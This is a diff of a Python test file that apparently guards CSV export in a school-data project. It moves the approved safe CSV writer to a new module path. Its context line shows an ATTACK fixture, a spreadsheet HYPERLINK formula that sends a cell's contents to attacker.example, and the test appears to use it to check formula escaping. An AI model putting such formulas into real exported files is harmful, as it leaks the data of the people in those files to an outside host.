@@ -23,7 +23,7 @@ ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 # The project's own synthetic generator writes the files a school would send, from its own values
 # only (nothing read from outside goes into them): their fast writer stays as it is.
 SYNTHETIC_INPUTS = {"services/devtools/synthetic_files.py", "services/devtools/fitness_synthetic_files.py"}
-SAFE_WRITERS = {"services/intake/bounded_files.py"}
+SAFE_WRITERS = {"services/platform/safe_csv.py"}
 
 
 def _cells(path: Path) -> list[str]:
@@ -45,7 +45,7 @@ def test_no_module_writes_csv_around_the_safe_writers() -> None:
         name = path.relative_to(ROOT).as_posix()
         if name not in SAFE_WRITERS | SYNTHETIC_INPUTS and writers.search(path.read_text(encoding="utf-8")):
             offenders.append(name)
-    assert offenders == [], f"write CSV through services.intake.bounded_files.SafeCsvWriter: {offenders}"
+    assert offenders == [], f"write CSV through services.platform.safe_csv.SafeCsvWriter: {offenders}"
 
 
 def test_the_import_rejection_report(tmp_path: Path) -> None:
